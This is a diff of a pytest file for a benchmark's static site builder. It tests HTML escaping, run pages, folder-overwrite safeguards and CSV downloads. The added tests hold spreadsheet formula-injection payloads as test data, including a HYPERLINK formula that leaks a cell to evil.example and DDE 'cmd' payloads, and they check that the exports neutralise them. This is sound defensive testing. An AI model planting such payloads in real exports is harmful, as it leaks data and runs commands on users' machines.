@@ -1,6 +1,7 @@
 """The static site: pages for several results, escaping of hostile strings, safe names, downloads."""
 from __future__ import annotations
 
+import csv
 import hashlib
 import html
 import json
@@ -14,11 +15,11 @@ import pandas as pd
 import pytest
 from markupsafe import escape
 
-from suite import leaderboard, results, site
+from suite import leaderboard, results, site, validate
 from suite.cli import main
 from suite.errors import GoodbenchError
-from suite.site import builder, pages, run_page, tables
-from suite.site.formatting import num
+from suite.site import builder, labels, pages, run_page, tables
+from suite.site.formatting import seconds
 from suite.site.names import file_slug, run_slug, safe_name
 from suite.store import safe_filename
 from workloads import registry
@@ -118,9 +119,24 @@ def test_run_page_shows_spec_settings_system_and_charts(built):
     assert f'href="../raw/{log_name}"' in page and f"({len(run['event_log'])} events)" in page
     lines = (out / "raw" / log_name).read_text().splitlines()
     assert lines[0].startswith("# event log of run") and lines[1:] == run["event_log"]
-    beta = docs[1]["runs"][0]  # no goodput, no event log: said so, nothing linked
-    beta_page = (out / "runs" / f"{run_slug('r1.json', beta['run_id'])}.html").read_text()
-    assert "no event log in this run" in beta_page and "-events.txt" not in beta_page
+    assert "self-reported" in page and "checked against each run&#39;s event log (submission_platform)" in page
+
+
+def test_a_file_stored_under_older_rules_shows_what_later_rules_would_refuse(tmp_path):
+    """A file stored before rules v6 required the event log keeps its status: shown, with no log
+    linked and the rules it predates listed on its run pages."""
+    folder = tmp_path / "results"
+    doc = factories.synthetic_document("synthetic-old", rng=np.random.default_rng(5), accelerator=2)
+    doc["rules_version"] = 5
+    for run in doc["runs"]:
+        del run["event_log"]
+    results.write(folder / "old.json", doc)
+    out = tmp_path / "out"
+    site.build(folder, out)
+    run = doc["runs"][0]
+    page = (out / "runs" / f"{run_slug('old.json', run['run_id'])}.html").read_text()
+    assert "no event log in this run" in page and "-events.txt" not in page
+    assert "Stored under older rules" in page and "not held to v6&#39;s [event-log-missing]" in page
 
 
 def test_run_context_draws_a_power_trace_and_warnings_where_present():
@@ -152,7 +168,7 @@ def test_hostile_strings_appear_only_escaped(tmp_path):
     folder.mkdir()
     rng = np.random.default_rng(3)
     hostile = factories.with_strings(factories.synthetic_document("x", rng=rng), PAYLOAD)
-    assert leaderboard.check_document(hostile) == []  # the hostile file is valid: it must be shown
+    assert validate.check_document(hostile) == []  # the hostile file is valid: it must be shown
     results.write(folder / "hostile.json", hostile)
     results.write(folder / "plain.json", factories.synthetic_document("synthetic-plain", rng=rng))
     (folder / f"{PAYLOAD.replace('/', '_')}.json").write_text(json.dumps({"error": PAYLOAD}))  # an invalid file
@@ -180,10 +196,62 @@ def test_hostile_strings_appear_only_escaped(tmp_path):
     block = re.search(r'<script type="application/json" id="compare-data">(.*?)</script>', compare, re.S).group(1)
     assert PAYLOAD in json.loads(block)["systems"]
     # event logs are plain-text files (never HTML), linked from the run pages, with the exact text
-    logs = sorted((out / "raw").glob("*-events.txt"))
+    logs = [out / "raw" / f"{run_slug('hostile.json', run['run_id'])}-events.txt" for run in hostile["runs"]]
     assert logs and all(json.dumps(PAYLOAD)[1:-1] in log.read_text() for log in logs)  # as the JSON line has it
     # downloads are data files (CSV/JSON), never markup the site renders; they hold the exact text
     assert PAYLOAD in pd.read_csv(out / "runs.csv")["system"].tolist()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return [value for row in csv.reader(fh) for value in row]
+
+
+def test_csv_downloads_escape_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
+    folder = tmp_path / "results"
+    folder.mkdir()
+    rng = np.random.default_rng(11)
+    for i, text in enumerate(FORMULAS):  # a submitter's strings: system, accelerator, ... (the validator accepts them)
+        doc = factories.with_strings(factories.synthetic_document("x", rng=rng, scale="smoke"), text)
+        assert validate.check_document(doc) == []
+        results.write(folder / f"hostile-{i}.json", doc)
+    results.write(folder / "=cmd|' \t calc'!A0.json", factories.synthetic_document(  # a file name, also a cell
+        "synthetic-plain", rng=rng, scale="smoke"))
+    out = tmp_path / "out"
+    site.build(folder, out)
+    downloads = sorted(out.rglob("*.csv"))
+    assert {p.name for p in downloads} >= {"runs.csv", "compare.csv"} and len(downloads) > 4
+    for path in downloads:
+        for value in _csv_cells(path):
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
+            if value.startswith("-"):
+                float(value)  # only a number starts with "-": a negative number, written as one
+    systems = pd.read_csv(out / "runs.csv")["system"].tolist()
+    assert {"'" + text for text in FORMULAS} <= set(systems)  # the exact text after the quote
+    assert "'=cmd|' \t calc'!A0.json" in pd.read_csv(out / "runs.csv")["file"].tolist()
+    raw = json.loads((out / "runs.json").read_text())  # JSON is data, not a spreadsheet: the exact text
+    assert set(FORMULAS) <= {row["system"] for row in raw}
+
+
+def test_csv_escaping_leaves_numbers_as_numbers(tmp_path):
+    frame = pd.DataFrame({"name": ["=1+1", "-x", "plain", None, "\tx", "\rx", "'quoted"],
+                          "delta": [-1.5, -2.0, 0.25, float("nan"), 3.0, -4e-9, 1.0],
+                          "count": [-3, 2, 1, 0, -1, 5, 7],
+                          "mixed": [-1.5, "-1.5", None, 2, "+x", "@x", True]})
+    tables.downloads(frame, tmp_path / "t")
+    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["name", "delta", "count", "mixed"] and len(rows) == 8  # the CR stayed inside its cell
+    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-x", "plain", "", "'\tx", "'\rx", "'quoted"]
+    assert [r[1] for r in rows[1:]] == ["-1.5", "-2.0", "0.25", "", "3.0", "-4e-09", "1.0"]  # numbers as written
+    assert [r[2] for r in rows[1:]] == ["-3", "2", "1", "0", "-1", "5", "7"]
+    assert [r[3] for r in rows[1:]] == ["-1.5", "'-1.5", "", "2", "'+x", "'@x", "True"]  # a number, then a string
+    assert pd.read_csv(tmp_path / "t.csv")["delta"].tolist()[:3] == [-1.5, -2.0, 0.25]  # read back as numbers
+    assert pd.read_json(tmp_path / "t.json")["name"].tolist()[:3] == ["=1+1", "-x", "plain"]  # JSON: unchanged
 
 
 def test_file_names_are_sanitised(tmp_path):
@@ -256,7 +324,7 @@ def test_scatter_keeps_the_front_and_each_systems_extremes(monkeypatch):
     scatter = pages._scatter(frame, "../")
     svg = str(scatter["chart"])
     assert svg.count("<circle") == 3  # capped; the middle points (2 J, 1.5 J) are not drawn
-    assert "a (full): 30 samples/s, 3 J/sample" in svg and "b (full): 1 samples/s, 0.5 J/sample" in svg
+    assert "a (full): 30 samples/s, 3 J per sample" in svg and "b (full): 1 samples/s, 500 mJ per sample" in svg
     assert "3 of 5 results drawn" in scatter["note"]
 
 
@@ -398,21 +466,40 @@ def test_a_failed_build_leaves_the_previous_site(tmp_path, monkeypatch):
     assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]
 
 
-def test_a_killed_builds_folder_is_removed_and_an_older_build_is_replaced(tmp_path):
+def test_a_killed_builds_folder_is_removed_and_a_build_is_replaced(tmp_path):
     folder = tmp_path / "results"
     _one_result(folder)
     out = tmp_path / "site"
     site.build(folder, out)
-    (out / builder.MARKER).unlink()  # a build from before the marker: its own entries only
     abandoned = tmp_path / ".site.new-killed"
     (abandoned / "runs").mkdir(parents=True)
-    site.build(folder, out)
+    site.build(folder, out)  # a build (it holds the marker): replaced
     assert (out / builder.MARKER).is_file() and not abandoned.exists()
-    (out / builder.MARKER).unlink()
-    (out / "notes.txt").write_text("mine")  # not a build's: refused
-    with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
-        site.build(folder, out)
-    assert (out / "notes.txt").read_text() == "mine"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]
+
+
+def test_a_folder_without_the_marker_is_never_replaced_whatever_it_holds(tmp_path, capsys):
+    folder = tmp_path / "results"
+    _one_result(folder)
+    mine = tmp_path / "mine"  # a user's own folder that looks like a site: index.html, static/, raw/
+    (mine / "static").mkdir(parents=True)
+    (mine / "raw").mkdir()
+    (mine / "index.html").write_text("<p>my page</p>")
+    (mine / "static" / "style.css").write_text("p {}")
+    (mine / "raw" / "notes.json").write_text("{}")
+    unmarked = tmp_path / "unmarked"  # a whole build, its marker removed
+    site.build(folder, unmarked)
+    (unmarked / builder.MARKER).unlink()
+    for target in (mine, unmarked):
+        before = _tree(target)
+        with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
+            site.build(folder, target)
+        assert main(["site", "--results-dir", str(folder), "--out", str(target)]) == 1
+        err = capsys.readouterr().err.strip().splitlines()
+        assert len(err) == 1 and f"--out {target}: not empty and not a site built by goodbench " \
+            "(no .goodbench-site)" in err[0] and "give a new or empty folder" in err[0]
+        assert _tree(target) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "results", "unmarked"]  # nothing beside them
 
 
 def test_site_without_its_results_folder_is_an_error(tmp_path, capsys):
@@ -445,10 +532,10 @@ def test_partial_and_failed_runs_are_marked_on_the_workload_page(tmp_path):
         doc = factories.synthetic_document(f"synthetic-{name}", rng=np.random.default_rng(2), scale="smoke",
                                            workloads=("lm-char",), seeds=len(statuses))
         for run, status in zip(doc["runs"], statuses):
-            run["status"], run["error"] = status, None if status == "complete" else f"{status} here"
+            factories.set_status(run, status, None if status == "complete" else f"{status} here")
         doc["settings"]["interrupted"] = True
         doc["summary"] = summarize(doc["runs"])
-        assert leaderboard.check_document(doc) == []  # submit accepts an interrupted file
+        assert validate.check_document(doc) == []  # submit accepts an interrupted file
         results.write(folder / f"{name}.json", doc)
     out = tmp_path / "out"
     site.build(folder, out)
@@ -510,7 +597,7 @@ def test_distributed_run_page_shows_world_communication_ranks_and_interconnect(t
     ddp["runs"][0]["distributed"]["ranks"][3]["host"] = PAYLOAD  # a submitter's text, shown escaped
     fsdp = factories.synthetic_document("synthetic-fsdp", rng=rng, accelerator=1, workloads=("gpt2-124m",),
                                         world_size=4, parallel="fsdp")
-    assert leaderboard.check_document(ddp) == [] and leaderboard.check_document(fsdp) == []
+    assert validate.check_document(ddp) == [] and validate.check_document(fsdp) == []
     results.write(folder / "ddp.json", ddp)
     results.write(folder / "fsdp.json", fsdp)
     site.build(folder, out)
@@ -518,7 +605,7 @@ def test_distributed_run_page_shows_world_communication_ranks_and_interconnect(t
     run = ddp["runs"][0]
     section = run["distributed"]
     page = (out / "runs" / f"{run_slug('ddp.json', run['run_id'])}.html").read_text()
-    summary = dict(re.findall(r'<th scope="row">([^<]*)</th><td>([^<]*)</td>',
+    summary = dict(re.findall(r'<th scope="row"[^>]*>([^<]*)</th><td>([^<]*)</td>',
                               page.split('id="distributed"')[1].split("<h3>")[0]))
     assert summary["world size (processes)"] == "8" and summary["nodes"] == "2"
     assert summary["backend"] == "nccl" and summary["parallel mode"] == "ddp"
@@ -529,9 +616,9 @@ def test_distributed_run_page_shows_world_communication_ranks_and_interconnect(t
     assert len(rows) == 8
     for cells, rank in zip(rows, section["ranks"]):
         assert cells[:2] == [str(rank["rank"]), str(rank["node_rank"])] and cells[3] == rank["device"]
-        assert cells[4:10] == [num(v, 4) for v in (
+        assert cells[4:10] == [seconds(v) for v in (
             rank["step_time_s"]["mean"], rank["step_time_s"]["p50"], rank["step_time_s"]["max"],
-            rank["phases_s"]["init"], rank["phases_s"]["eval"], rank["energy_to_train_j"])]
+            rank["phases_s"]["init"], rank["phases_s"]["eval"])] + [labels.value_text(rank["energy_to_train_j"], "J")]
     assert PAYLOAD not in page and str(escape(PAYLOAD)) in page
     assert "interconnect <strong>nvswitch</strong>" in page
     system = (out / "systems" / f"{safe_name('synthetic-ddp')}.html").read_text()
@@ -577,8 +664,8 @@ def test_each_section_of_a_workload_page_names_its_own_target(built):
     """The smoke section is scored against the smoke spec's target, not the full-scale one."""
     _, out, _ = built
     page = (out / "workloads" / f"{safe_name('dlrm-small')}.html").read_text()
-    full = registry.get("dlrm-small").spec("full").target.describe()
-    smoke = registry.get("dlrm-small").spec("smoke").target.describe()
+    full = labels.target_text(registry.get("dlrm-small").spec("full").target)
+    smoke = labels.target_text(registry.get("dlrm-small").spec("smoke").target)
     assert full != smoke
     assert f"time to {html.escape(full)} at full scale" in page
     assert f"Smoke scale — not ranked (a quick check, not a benchmark); score: time to {html.escape(smoke)}" in page
